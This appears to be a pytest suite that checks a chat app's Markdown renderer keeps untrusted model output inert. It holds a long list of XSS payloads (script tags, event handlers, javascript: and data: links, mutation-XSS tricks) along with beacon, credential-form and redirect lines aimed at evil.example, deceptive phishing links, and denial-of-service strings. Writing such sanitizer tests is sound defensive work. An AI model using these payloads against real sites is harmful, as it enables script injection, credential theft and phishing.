"""Markdown rendering of untrusted model output."""

from __future__ import annotations

from typing import Any

import pytest
from module_page import ModulePage

pytestmark = pytest.mark.asyncio(loop_scope="module")

_SHOW = """
const { MarkdownView } = await load('chat/render/markdown.js');
const main = document.querySelector("main");
main.replaceChildren();
const view = new MarkdownView(main);
for (const text of given.slice(0, -1)) view.show(text, false);
view.show(given.at(-1), true);
"""
_HTML = _SHOW + "return main.innerHTML;"
_TEXT = _SHOW + "return main.textContent;"
_SEEN = """
const allowed = new Set(("DIV P BR HR H3 H4 H5 H6 STRONG EM DEL CODE PRE BLOCKQUOTE UL OL LI A "
  + "SPAN TABLE THEAD TBODY TR TH TD BUTTON SVG USE").split(" "));
const attributes = new Set(("class href target rel align start tabindex role aria-label "
  + "aria-hidden type title").split(" "));
const found = [];
for (const element of document.querySelectorAll("main *")) {
  const isIcon = element.tagName.toLowerCase() === "use";
  if (!allowed.has(element.tagName.toUpperCase())) found.push(element.tagName);
  for (const { name, value } of element.attributes) {
    if (!attributes.has(name)) found.push(`${element.tagName} ${name}=${value}`);
    if (name === "href" && !isIcon && !/^(https?|mailto):/.test(value)) found.push(value);
  }
}
return [found, globalThis.hostile ?? null];
"""

HOSTILE = [
    "<script>globalThis.hostile = 1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=globalThis.hostile=1>",
    "<img src='https://evil.example/beacon.png'>",
    "<svg onload=globalThis.hostile=1></svg>",
    "<svg><script>globalThis.hostile=1</script></svg>",
    "<svg><animate onbegin=globalThis.hostile=1 attributeName=x dur=1s>",
    "<math><mi xlink:href='javascript:globalThis.hostile=1'>x</mi></math>",
    "<iframe src='javascript:parent.hostile=1'></iframe>",
    "<iframe srcdoc='<script>parent.hostile=1</script>'></iframe>",
    "<object data='javascript:globalThis.hostile=1'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>body { background: url(https://evil.example/) }</style>",
    "<div style='position:fixed;inset:0;background:red'>over everything</div>",
    "<form action='https://evil.example/'><input name=password><button>Sign in</button></form>",
    "<details open ontoggle=globalThis.hostile=1>",
    "<video><source onerror=globalThis.hostile=1></video>",
    "<a href='javascript:globalThis.hostile=1'>x</a>",
    "<body onload=globalThis.hostile=1>",
    "<template><script>globalThis.hostile=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=globalThis.hostile=1>'>",
    "<!--><img src=x onerror=globalThis.hostile=1>-->",
    "<![CDATA[<img src=x onerror=globalThis.hostile=1>]]>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=globalThis.hostile=1&gt;'>",
    "<textarea></textarea><script>globalThis.hostile=1</script>",
    "[x](javascript:globalThis.hostile=1)",
    "[x](JaVaScRiPt:globalThis.hostile=1)",
    "[x](java\nscript:globalThis.hostile=1)",
    "[x](&#106;avascript:globalThis.hostile=1)",
    "[x](javascript&colon;globalThis.hostile=1)",
    "[x](\x01javascript:globalThis.hostile=1)",
    "[x](<javascript:globalThis.hostile=1>)",
    "[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaG9zdGlsZT0xPC9zY3JpcHQ+)",
    "[x](vbscript:globalThis.hostile=1)",
    "[x](blob:https://evil.example/1)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](/api/account/sign-out)",
    "<javascript:globalThis.hostile=1>",
    "![x](javascript:globalThis.hostile=1)",
    "![x](https://evil.example/beacon.png)",
    "![x](data:image/svg+xml,<svg onload=globalThis.hostile=1>)",
    "[x](https://a.example \"' onmouseover=globalThis.hostile=1 x='\")",
    '[x](https://a.example/"onmouseover="globalThis.hostile=1)',
    '![" onerror="globalThis.hostile=1](https://a.example/"onerror="globalThis.hostile=1)',
    "[x]: javascript:globalThis.hostile=1\n\n[x]",
    '```"><img src=x onerror=globalThis.hostile=1>\n</code></pre><script>hostile=1</script>\n```',
    "```js onload=globalThis.hostile=1\n</code><img src=x onerror=globalThis.hostile=1>\n```",
    "`<img src=x onerror=globalThis.hostile=1>`",
    "| <img src=x onerror=globalThis.hostile=1> |\n|---|\n| <script>hostile=1</script> |",
    "# <img src=x onerror=globalThis.hostile=1>",
    "- [x] <img src=x onerror=globalThis.hostile=1>",
    "</div></main><script>globalThis.hostile=1</script>",
    "<div>\n\n</div>\n\n<p id=chat-list name=csrf-token class=problem>",
    "&lt;script&gt;globalThis.hostile=1&lt;/script&gt;",
    "<a id=main name=body href=https://a.example>clobber</a>",
]


async def _html(modules: ModulePage, *texts: str) -> str:
    found: str = await modules.run(_HTML, list(texts))
    return found


async def test_hostile_markdown_stays_text(modules: ModulePage) -> None:
    for text in HOSTILE:
        for given in ([text], [text[: len(text) // 2], text], [text * 2 + "\n\n" + text]):
            await modules.run(_SHOW, given)
            found, hostile = await modules.run(_SEEN)
            assert found == [], text
            assert hostile is None, text
    await modules.steady()
    assert await modules.run("return globalThis.hostile ?? null") is None


async def test_partial_hostile_markdown_stays_text(modules: ModulePage) -> None:
    text = "\n\n".join(HOSTILE)
    pieces = [text[:end] for end in range(1, len(text), 7)]
    await modules.run(_SHOW, pieces)
    found, hostile = await modules.run(_SEEN)
    assert (found, hostile) == ([], None)


async def test_html_is_shown_as_text(modules: ModulePage) -> None:
    shown = await modules.run(_TEXT, ["a <b>bold</b> word\n\n<script>x</script>"])
    assert "a <b>bold</b> word" in shown
    assert "<script>x</script>" in shown


@pytest.mark.parametrize(
    ("text", "href", "label"),
    [
        ("[docs](https://a.example/x)", "https://a.example/x", "docsa.example"),
        ("https://a.example/x", "https://a.example/x", "https://a.example/x"),
        ("<https://a.example>", "https://a.example/", "https://a.example"),
        ("[https://bank.example/](https://evil.example/)", "https://evil.example/",
         "https://bank.example/evil.example"),
        ("https://bank.example@evil.example/", "https://bank.example@evil.example/",
         "https://bank.example@evil.example/evil.example"),
        ("[x](https://xn--pypal-4ve.example/)", "https://xn--pypal-4ve.example/",
         "xxn--pypal-4ve.example"),
        ("[x](https://p\u0430ypal.example/)", "https://xn--pypal-4ve.example/",
         "xxn--pypal-4ve.example"),
        ("[write](mailto:ann@a.example)", "mailto:ann@a.example", "writemail"),
        ("![a cat](https://a.example/cat.png)", "https://a.example/cat.png", "a cata.example"),
    ],
)  # fmt: skip
async def test_link_shows_its_host(modules: ModulePage, text: str, href: str, label: str) -> None:
    await modules.run(_SHOW, [text])
    [link] = await modules.run(
        """return [...document.querySelectorAll("main a")].map((it) =>
          [it.getAttribute("href"), it.textContent, it.rel, it.target]);"""
    )
    assert link == [href, label, "noopener noreferrer nofollow", "_blank"]


async def test_internal_addresses_are_not_links(modules: ModulePage) -> None:
    html = await _html(modules, "[the file](src/main.py) and [x](#top)")
    assert "<a" not in html
    assert "the file" in html


async def test_markdown_renders_as_expected(modules: ModulePage) -> None:
    html = await _html(
        modules,
        "# One\n\nSome **bold** and `code`.\n\n1. a\n2. b\n\n> quoted\n\n"
        "| h |\n|--:|\n| c |\n\n- [x] done\n\n```python\nprint(1)\n```\n",
    )
    for piece in (
        "<h3>One</h3>",
        "<strong>bold</strong> and <code>code</code>",
        "<ol>\n<li>a</li>",
        "<blockquote>",
        '<td align="right">c</td>',
        "☑ done",
        'aria-label="Code, python"',
        "<code>print(1)</code>",
    ):
        assert piece in html


async def test_code_names_invisible_characters(modules: ModulePage) -> None:
    shown = await modules.run(_TEXT, ["`a\u202eb`\n\n```\nif\u200b x:\n```"])
    assert "a⟨U+202E⟩b" in shown
    assert "if⟨U+200B⟩ x:" in shown


async def test_direction_overrides_are_named(modules: ModulePage) -> None:
    shown = await modules.run(_TEXT, ["run \u202egnp.exe and \u2067this"])
    assert "run ⟨U+202E⟩gnp.exe and ⟨U+2067⟩this" in shown


async def test_streamed_text_renders_like_the_whole(modules: ModulePage) -> None:
    text = (
        "# A heading\n\nA paragraph, **bold\nwords** in it.\n\n- one\n- two\n\n  more\n\n- three\n"
        "\n```js\nlet a = 1;\n\nlet b = 2;\n```\n\n1. x\n\n2. y\n\nA [reference][r].\n\n| a | b |\n"
        "|---|---|\n| 1 | 2 |\n\nHeading below\n===\n\n[r]: https://a.example/\n\nEnd.\n"
    )
    whole = await _html(modules, text)
    for step in (1, 2, 3, 5, 11):
        pieces = [text[:end] for end in range(step, len(text) + step, step)]
        assert await _html(modules, *pieces) == whole, step


async def test_finished_blocks_keep_their_elements(modules: ModulePage) -> None:
    shown = await modules.run(
        """const { MarkdownView } = await load('chat/render/markdown.js');
        const main = document.querySelector("main");
        const view = new MarkdownView(main);
        const text = "First.\\n\\n```js\\nlet a;\\n```\\n\\nSecond.\\n\\nThird.\\n\\n```\\n";
        view.show(text, false);
        const before = [...main.children];
        view.show(text + "one\\n", false);
        const code = main.lastChild.querySelector("pre code").firstChild;
        view.show(text + "one\\ntwo\\n", false);
        const same = main.lastChild.querySelector("pre code").firstChild === code;
        view.show(text + "one\\ntwo\\n```\\nEnd.", true);
        return [before.every((it, at) => main.children[at] === it), same, main.textContent];"""
    )
    assert shown[:2] == [True, True]
    assert shown[2].endswith("one\ntwoEnd.\n")


@pytest.mark.parametrize(
    "text",
    [
        ">" * 20_000,
        "- " * 4_000,
        "_a" * 30_000,
        "[" * 60_000,
        "![a](" * 20_000,
        "*a " * 30_000,
        "<" * 50_000,
        "|a" * 20_000 + "\n" + "|-" * 20_000 + "\n",
        "`" * 50_000,
        "\n".join(" " * (2 * it) + "- x" for it in range(400)),
    ],
    ids=lambda it: it[:6].strip() or "nested",
)
async def test_no_text_blocks_the_page(modules: ModulePage, text: str) -> None:
    took: float = await modules.run(
        "const started = performance.now();" + _SHOW + "return performance.now() - started;", [text]
    )
    assert took < 8_000


async def test_long_answer_renders_quickly(modules: ModulePage) -> None:
    result: dict[str, Any] = await modules.run(
        """const { MarkdownView } = await load('chat/render/markdown.js');
        const main = document.querySelector("main");
        const view = new MarkdownView(main);
        let text = "", worst = 0;
        const started = performance.now();
        for (let i = 0; i < 1500; i++) {
          text += i % 10 ? `word ${i} and **more**. ` : "\\n\\n- a `point`\\n\\n";
          const before = performance.now();
          view.show(text, false);
          worst = Math.max(worst, performance.now() - before);
        }
        return { took: performance.now() - started, worst, blocks: view.blocks.length };"""
    )
    assert result["blocks"] > 250
    assert result["took"] < 15_000
